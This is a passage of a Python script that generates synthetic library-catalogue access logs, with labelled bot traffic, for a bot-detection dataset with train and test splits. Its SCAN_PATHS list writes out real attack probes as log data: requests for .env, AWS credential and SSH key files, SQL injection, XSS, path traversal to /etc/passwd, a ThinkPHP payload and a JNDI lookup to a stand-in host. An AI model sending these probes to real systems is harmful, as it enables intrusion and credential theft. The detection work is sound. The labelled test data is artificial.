                sz = rng.randint(18000, 34000) if st == 200 else 7345
            elif r < 0.93:
                path, st, sz = f"/Author/Home?{q([('author', rng.choice(AUTHORS))])}", 200, rng.randint(20000, 40000)
            elif r < 0.97:
                path, st, sz = rng.choice(CORE_ASSETS)[0], 200, 50000
            else:
                path, st, sz = f"/Record/{rid_str(rng.randint(1, N_RECORDS))}/Export?style=RIS", 200, 900
            log.add(t, ip, ua, "GET", path, st, sz, "-", "crawler:googlebot", "googlebot", proto="HTTP/1.1")
            t += rng.expovariate(1 / 4.0)
        t += rng.expovariate(1 / 1500.0)
    # bingbot: steadier, slower
    b_ips = [
        rng.choice(
            [f"157.55.39.{rng.randint(1, 254)}", f"40.77.167.{rng.randint(1, 254)}", f"207.46.13.{rng.randint(1, 254)}"]
        )
        for _ in range(rng.randint(2, 4))
    ]
    t = day_start + rng.uniform(0, 900)
    log.add(t, b_ips[0], BINGBOT, "GET", "/robots.txt", 200, 412, "-", "crawler:bingbot", "bingbot", proto="HTTP/1.1")
    while t < end:
        t += rng.expovariate(1 / 520.0)
        ip = rng.choice(b_ips)
        if rng.random() < 0.9:
            rid = rng.randint(1, N_RECORDS)
            st = 200 if record_exists(rid) else 404
            log.add(
                t,
                ip,
                BINGBOT,
                "GET",
                f"/Record/{rid_str(rid)}",
                st,
                rng.randint(18000, 34000) if st == 200 else 7345,
                "-",
                "crawler:bingbot",
                "bingbot",
                proto="HTTP/1.1",
            )
        else:
            lookfor, typ = human_query(rng)
            log.add(
                t,
                ip,
                BINGBOT,
                "GET",
                search_path(lookfor, typ),
                200,
                rng.randint(30000, 50000),
                "-",
                "crawler:bingbot",
                "bingbot",
                proto="HTTP/1.1",
            )


def gen_monitor(rng, log, day_start):
    t = day_start + 7.0
    for _ in range(1440):
        log.add(
            t + rng.uniform(0, 0.8),
            MONITOR_IP,
            MONITOR_UA,
            "GET",
            "/health",
            200,
            15,
            "-",
            "monitor",
            "monitor",
            proto="HTTP/1.0",
        )
        t += 60


def gen_rss(rng, log, day_start):
    ips = ["34.245.112.18", "52.16.201.77"]  # the feed reader's poller (cloud)
    t = day_start + rng.uniform(0, 1800)
    while t < day_start + 86400:
        changed = rng.random() < 0.15
        log.add(
            t,
            rng.choice(ips),
            FEEDLY_UA,
            "GET",
            "/feeds/new-acquisitions.rss",
            200 if changed else 304,
            rng.randint(40000, 60000) if changed else 0,
            "-",
            "rss",
            "feedly",
            proto="HTTP/1.1",
        )
        t += rng.uniform(1800, 4500)


# ---------------------------------------------------------------- bots (test period only)
HOSTING = {
    "do": ["164.92", "167.99", "159.89", "143.198"],
    "hetzner": ["65.108", "95.217", "135.181"],
    "ovh": ["51.38", "141.94", "54.36"],
    "aws": ["3.121", "18.184", "54.93", "3.70"],
    "azure": ["20.113", "20.79"],
}


def host_ip(rng, provider):
    return rand_ip(rng, HOSTING[provider])


def scraper_fast_sequential(rng, log, t, label):
    ip, ua = host_ip(rng, "do"), chrome_win(122)
    rid = rng.randint(200000, 300000)
    for _ in range(1200):
        st = 200 if record_exists(rid) else 404
        log.add(
            t,
            ip,
            ua,
            "GET",
            f"/Record/{rid_str(rid)}",
            st,
            rng.randint(18000, 34000) if st == 200 else 7345,
            "-",
            label,
            "scraper-fast-1",
            proto="HTTP/1.1",
        )
        rid += 1
        t += rng.uniform(1.0, 2.5)


def scraper_fast_pool(rng, log, t, label):
    ips = [host_ip(rng, "aws") for _ in range(5)]
    ua = chrome_mac(121)
    page = 1
    prev = "-"
    n = 0
    i = 0
    while n < 1000:
        ip = ips[i % 5]
        i += 1
        path = search_path("", "AllFields", page=page, filters=('format:"Book"',), sort="year")
        log.add(
            t, ip, ua, "GET", path, 200, rng.randint(40000, 52000), prev, label, "scraper-fast-pool", proto="HTTP/1.1"
        )
        prev = HOST + path
        n += 1
        t += rng.uniform(0.5, 1.5)
        for _ in range(20):
            ip = ips[i % 5]
            i += 1
            rid = rng.randint(1, N_RECORDS)
            st = 200 if record_exists(rid) else 404
            log.add(
                t,
                ip,
                ua,
                "GET",
                f"/Record/{rid_str(rid)}",
                st,
                rng.randint(18000, 34000) if st == 200 else 7345,
                prev,
                label,
                "scraper-fast-pool",
                proto="HTTP/1.1",
            )
            n += 1
            t += rng.uniform(0.5, 1.5)
        page += 1


def scraper_slow_hosting(rng, log, t, label):
    ip, ua = host_ip(rng, "ovh"), firefox_linux(128)
    prev = "-"
    n = 0
    subj = rng.choice(SUBJECTS)
    page = 1
    while n < 600:
        path = search_path(subj, "Subject", page=page)
        log.add(
            t, ip, ua, "GET", path, 200, rng.randint(40000, 52000), prev, label, "scraper-slow-ovh", proto="HTTP/1.1"
        )
        prev = HOST + path
        n += 1
        t += rng.uniform(10, 30)
        for _ in range(20):
            rid = rng.randint(1, N_RECORDS)
            st = 200 if record_exists(rid) else 404
            log.add(
                t,
                ip,
                ua,
                "GET",
                f"/Record/{rid_str(rid)}",
                st,
                rng.randint(18000, 34000) if st == 200 else 7345,
                prev,
                label,
                "scraper-slow-ovh",
                proto="HTTP/1.1",
            )
            n += 1
            t += rng.uniform(10, 30)
            if st == 200 and rng.random() < 0.5:
                log.add(
                    t,
                    ip,
                    ua,
                    "GET",
                    f"/Record/{rid_str(rid)}/Export?style=MARC",
                    200,
                    rng.randint(1500, 4000),
                    HOST + f"/Record/{rid_str(rid)}",
                    label,
                    "scraper-slow-ovh",
                    proto="HTTP/1.1",
                )
                n += 1
                t += rng.uniform(10, 30)
        page += 1


def scraper_slow_residential(rng, log, t, label):
    ua = chrome_win(133)  # the most common browser build of the site's own people
    rid = rng.randint(400000, 500000)
    n = 0
    while n < 400:
        ip = rand_ip(rng, GR_RESIDENTIAL + ABROAD_RESIDENTIAL)  # a residential proxy exit
        for _ in range(rng.randint(20, 60)):
            st = 200 if record_exists(rid) else 404
            log.add(
                t,
                ip,
                ua,
                "GET",
                f"/Record/{rid_str(rid)}",
                st,
                rng.randint(18000, 34000) if st == 200 else 7345,
                "-",
                label,
                "scraper-slow-resi",
                proto="HTTP/2.0",
            )
            rid += rng.randint(1, 3)
            n += 1
            t += rng.uniform(12, 25)


def headless_crawler(rng, log, cat, t, label):
    ip = host_ip(rng, "aws")
    ua = (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/122.0.6261.94 "
        "Safari/537.36"
    )
    dev = Device(rng, mobile=False)
    dev.ua = ua
    dev.private = False
    v = HumanVisit(rng, log, cat, t, ip, dev, label, "headless-1")
    v.page("/", "home", ref="-")
    frontier = []
    for _ in range(250):
        v.t += rng.uniform(2, 6)
        v.cur = None  # page.goto(): no referer
        if frontier and rng.random() < 0.7:
            rid = frontier.pop(0)
            v.record(rid, ref="-")
        else:
            lookfor, typ = human_query(rng)
            _, _, rids = v.search(lookfor, typ)
            frontier.extend(rids)


SCAN_PATHS = [
    "/.env",
    "/.env.bak",
    "/.env.local",
    "/.env.production",
    "/api/.env",
    "/app/.env",
    "/backend/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.git/index",
    "/.svn/entries",
    "/.hg/hgrc",
    "/.DS_Store",
    "/.htaccess",
    "/.htpasswd",
    "/wp-login.php",
    "/wp-admin/",
    "/wp-admin/setup-config.php",
    "/wp-includes/wlwmanifest.xml",
    "/xmlrpc.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/wp-json/wp/v2/users",
    "/blog/wp-login.php",
    "/wordpress/wp-login.php",
    "/phpmyadmin/",
    "/phpMyAdmin/",
    "/pma/",
    "/myadmin/",
    "/phpmyadmin/index.php",
    "/mysql/admin/",
    "/adminer.php",
    "/admin/",
    "/administrator/",
    "/admin/login",
    "/admin.php",
    "/login.php",
    "/user/login",
    "/server-status",
    "/server-info",
    "/phpinfo.php",
    "/info.php",
    "/test.php",
    "/shell.php",
    "/cmd.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
    "/actuator/health",
    "/actuator/heapdump",
    "/console/",
    "/manager/html",
    "/jmx-console/",
    "/solr/admin/cores?action=STATUS&wt=json",
    "/solr/admin/info/system",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/cgi-bin/luci",
    "/cgi-bin/test-cgi",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/config.json",
    "/config.php.bak",
    "/config.yml",
    "/docker-compose.yml",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/backup.zip",
    "/backup.tar.gz",
    "/site.tar.gz",
    "/db.sql",
    "/dump.sql",
    "/database.sql",
    "/sftp-config.json",
    "/.vscode/sftp.json",
    "/web.config",
    "/elmah.axd",
    "/trace.axd",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/debug/default/view",
    "/api/swagger.json",
    "/swagger-ui.html",
    "/v2/api-docs",
    "/graphql",
    "/.well-known/security.txt",
    "/crossdomain.xml",
    "/sitemap.xml",
    "/robots.txt",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/Search/Results?lookfor=%27%20OR%201%3D1--&type=AllFields",
    "/Search/Results?lookfor=%3Cscript%3Ealert(1)%3C%2Fscript%3E&type=AllFields",
    "/Record/1%27%20AND%20SLEEP(5)--",
    "/Search/Results?lookfor=1%27%29%20UNION%20SELECT%20NULL--&type=AllFields",
    "/?q=${jndi:ldap://x.example.net/a}",
    "/login?redirect=http://evil.example.net",
    "/themes/bootstrap5/../../../../etc/passwd",
    "/AJAX/JSON?method=../../../../etc/passwd",
]
SCAN_DIRS = ["", "/old", "/new", "/backup", "/test", "/dev", "/vufind", "/opac", "/koha", "/library"]
SCAN_FILES = [
    ".env",
    "wp-login.php",
    "config.php",
    "admin/",
    "phpinfo.php",
    ".git/config",
    "install.php",
    "setup.php",
    "debug.log",
    "error.log",
]


def scan_status(path):
    if path in ("/robots.txt",):
        return 200, 412
    if path == "/sitemap.xml":
        return 200, 1830
    if path.startswith("/.git") or path.startswith("/.ht") or path.startswith("/server-"):
        return 403, 153
    if path.startswith("/Search/Results"):
        return 200, 21000
    if path.startswith("/login?"):
        return 200, 9120
    if path.endswith("/") and path.count("/") == 2 and path[1:-1] in ("admin", "administrator"):
        return 302, 0
    return 404, 162


def vuln_scanner_nuclei(rng, log, t, label):
    ip = host_ip(rng, "hetzner")
    ua = chrome_win(87).replace("87.0.0.0", "87.0.4280.88")
    paths = list(SCAN_PATHS) + [d + "/" + f for d in SCAN_DIRS for f in SCAN_FILES]
    rng.shuffle(paths)
    for path in paths:
        st, sz = scan_status(path)
        log.add(
            t,
            ip,
            ua,
            rng.choice(["GET", "GET", "GET", "POST"]) if "login" in path else "GET",
            path,
            st,
            sz,
            "-",
            label,
            "scanner-nuclei",
            proto="HTTP/1.1",
        )
        t += rng.uniform(0.2, 1.2)


def vuln_scanner_small(rng, log, t, label):
    ip = host_ip(rng, "do")
    for ua, paths in (
        ("Mozilla/5.0 zgrab/0.x", ["/", "/.env", "/wp-login.php", "/.git/HEAD"]),
        (
            "Go-http-client/1.1",
            [
                "/.env",
                "/phpmyadmin/",
                "/.aws/credentials",
                "/config.json",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "/cgi-bin/luci",
                "/actuator/env",
                "/.git/config",
                "/admin/",
            ],
        ),
    ):
        for path in paths:
            st, sz = scan_status(path)
            if path == "/":
                st, sz = 200, 23000
            log.add(t, ip, ua, "GET", path, st, sz, "-", label, "scanner-small", proto="HTTP/1.1")
            t += rng.uniform(0.3, 2.0)
        t += rng.uniform(30, 120)


def credential_stuffing(rng, log, t0, label):
    uas = [chrome_win(133), chrome_win(132), firefox_win(135), chrome_mac(133), edge_win(133), safari_mac("18.3")]
    n_ips = 160
    duration = 100 * 60
    for k in range(n_ips):
        ip = rand_ip(rng, GR_RESIDENTIAL + ABROAD_RESIDENTIAL + GR_MOBILE)
        ua = rng.choice(uas)
        t = t0 + rng.uniform(0, duration)
        for a in range(rng.choice([1, 1, 2, 2, 3])):
            log.add(t, ip, ua, "GET", "/login", 200, 8930, "-", label, f"stuffer-{k}", proto="HTTP/1.1")
            t += rng.uniform(0.8, 3.0)
            success = rng.random() < 0.02
            log.add(
                t,
                ip,
                ua,
                "POST",
                "/login",
                302 if success else FAILED_LOGIN_STATUS,
                0 if success else 9120,
                HOST + "/login",
                label,
                f"stuffer-{k}",
                proto="HTTP/1.1",
            )
            if success:
                t += rng.uniform(0.3, 1.0)
                log.add(
                    t, ip, ua, "GET", "/account", 200, 21000, HOST + "/login", label, f"stuffer-{k}", proto="HTTP/1.1"
                )
                t += rng.uniform(0.5, 2)
                log.add(
                    t,
                    ip,
                    ua,
                    "GET",
                    "/account/checkouts",
                    200,
                    24000,
                    HOST + "/account",
                    label,
                    f"stuffer-{k}",
                    proto="HTTP/1.1",
                )
            t += rng.uniform(5, 40)


def api_harvester_requests(rng, log, t, label):
    ip, ua = host_ip(rng, "azure"), "python-requests/2.31.0"
    for subj in rng.sample(SUBJECTS, 18):
        for page in range(1, rng.randint(30, 70)):
            params = [
                ("lookfor", subj),
                ("type", "AllFields"),
                ("limit", "100"),
                ("page", str(page)),
                ("field[]", "id"),
                ("field[]", "title"),
                ("field[]", "authors"),
                ("field[]", "isbns"),
                ("field[]", "subjects"),
            ]
            log.add(
                t,
                ip,
                ua,
                "GET",
                "/api/v1/search?" + q(params),
                200,
                rng.randint(60000, 140000),
                "-",
                label,
                "harvester-requests",
                proto="HTTP/1.1",
            )
            t += rng.uniform(0.3, 1.0)


def api_harvester_curl(rng, log, t, label):
    ip, ua = host_ip(rng, "hetzner"), "curl/8.5.0"
    for page in range(1, 351):
        params = [("lookfor", "*"), ("type", "AllFields"), ("limit", "20"), ("page", str(page))]
        log.add(
            t,
            ip,
            ua,
            "GET",
            "/api/v1/search?" + q(params),
            200,
            rng.randint(25000, 40000),
            "-",
            label,
            "harvester-curl",
            proto="HTTP/1.1",
        )
        t += 2 + rng.uniform(0.1, 1.8)


# ---------------------------------------------------------------- output
def client_key(ip, ua):
    return "client:" + hashlib.sha256((ip + "\x1f" + ua).encode()).hexdigest()[:16]


def write_log(rows, path, lo, hi):
    out = [r for r in rows if lo <= r[0] < hi]
    out.sort(key=lambda r: (int(r[0]), r[0], r[1]))
    with open(path, "w", encoding="utf-8") as f:
        for t, _seq, ip, ua, method, p, proto, st, sz, ref, _k, _a in out:
            ts = dt.datetime.fromtimestamp(t, TZ).strftime("%d/%b/%Y:%H:%M:%S %z")
            f.write(f'{ip} - - [{ts}] "{method} {p} {proto}" {st} {sz} "{ref}" "{ua}"\n')
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=2323)
    ap.add_argument("--out", default=".")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    cat = Catalogue(rng)
    log = Log()
    regulars = [Person(rng, f"r{i}", regular=True) for i in range(520)]
    mobile_pool = [rand_ip(rng, GR_MOBILE) for _ in range(350)]
    tally_train, tally_test = defaultdict(int), defaultdict(int)

    start = TRAIN_START.timestamp()
    for d in range(TRAIN_DAYS + TEST_DAYS):
        day_start = start + d * 86400
        weekday = (TRAIN_START + dt.timedelta(days=d)).weekday()
        tally = tally_train if d < TRAIN_DAYS else tally_test
        gen_humans(rng, log, cat, day_start, weekday, regulars, d, mobile_pool, tally)
        gen_crawlers(rng, log, day_start, d)
        gen_monitor(rng, log, day_start)
        gen_rss(rng, log, day_start)

    test0 = TEST_START.timestamp()
    D = 86400
    bots = [
        ("scraper_fast", scraper_fast_sequential, test0 + 0 * D + 2 * 3600 + 14 * 60),
        ("scraper_fast", scraper_fast_pool, test0 + 1 * D + 11 * 3600),
        ("scraper_slow", scraper_slow_hosting, test0 + 0 * D + 9 * 3600 + 30 * 60),
        ("scraper_slow", scraper_slow_residential, test0 + 2 * D + 15 * 3600),
        ("headless_crawler", lambda r, l, t, lab: headless_crawler(r, l, cat, t, lab), test0 + 1 * D + 20 * 3600 + 600),
        ("vuln_scanner", vuln_scanner_nuclei, test0 + 0 * D + 4 * 3600 + 40 * 60),
        ("vuln_scanner", vuln_scanner_small, test0 + 2 * D + 13 * 3600),
        ("credential_stuffing", credential_stuffing, test0 + 1 * D + 22 * 3600),
        ("api_harvester", api_harvester_requests, test0 + 0 * D + 14 * 3600),
        ("api_harvester", api_harvester_curl, test0 + 2 * D + 10 * 3600),
    ]
    for label, fn, t in bots:
        fn(rng, log, t, label)

    end = start + (TRAIN_DAYS + TEST_DAYS) * D
    train_rows = write_log(log.rows, os.path.join(args.out, "train.log"), start, test0)
    test_rows = write_log(log.rows, os.path.join(args.out, "test.log"), test0, end)

    # labels per client key (the importer's user id for a log without user and session columns)
    clients = {}
    for t, _s, ip, ua, method, p, proto, st, sz, ref, kind, actor in test_rows:
        k = client_key(ip, ua)
        c = clients.setdefault(k, {"ip": ip, "ua": ua, "kinds": defaultdict(int), "actors": set(), "lines": 0})
        c["kinds"][kind] += 1
        c["actors"].add(actor)
        c["lines"] += 1
    bot_labels = {
        "scraper_fast",
        "scraper_slow",
        "headless_crawler",
        "vuln_scanner",
        "credential_stuffing",
        "api_harvester",
    }
    conflicts = []
    with (
        open(os.path.join(args.out, "labels.csv"), "w", newline="") as f1,
        open(os.path.join(args.out, "test_clients.csv"), "w", newline="") as f2,
    ):
        w1, w2 = csv.writer(f1), csv.writer(f2)
        w1.writerow(["key", "label"])
        w2.writerow(["key", "label", "kind", "actors", "lines", "ip", "ua"])
        for k, c in sorted(clients.items()):
            kinds = c["kinds"]
            botk = [x for x in kinds if x in bot_labels]
            if botk and len(kinds) > 1:
                conflicts.append({"key": k, "kinds": dict(kinds)})
            if botk:
                label = max(botk, key=lambda x: kinds[x])
                kind = label
            else:
                label = "normal"
                kind = max(kinds, key=lambda x: kinds[x])
            w1.writerow([k, label])
            w2.writerow([k, label, kind, len(c["actors"]), c["lines"], c["ip"], c["ua"]])

    summary = {
        "seed": args.seed,
        "train_lines": len(train_rows),
        "test_lines": len(test_rows),
        "train_visits": dict(tally_train),
        "test_visits": dict(tally_test),
        "test_lines_by_kind": {},
        "test_clients_by_kind": {},
        "label_conflicts": conflicts,
    }
    for r in test_rows:
        summary["test_lines_by_kind"][r[10]] = summary["test_lines_by_kind"].get(r[10], 0) + 1
    for k, c in clients.items():
        kinds = c["kinds"]
        botk = [x for x in kinds if x in bot_labels]
        kind = max(botk, key=lambda x: kinds[x]) if botk else max(kinds, key=lambda x: kinds[x])
        summary["test_clients_by_kind"][kind] = summary["test_clients_by_kind"].get(kind, 0) + 1
    with open(os.path.join(args.out, "ground_truth.json"), "w") as f:
        json.dump(summary, f, indent=1, ensure_ascii=False)
    print(json.dumps({k: v for k, v in summary.items() if k != "label_conflicts"}, ensure_ascii=False))
    print("label conflicts:", len(conflicts))


if __name__ == "__main__":
    main()
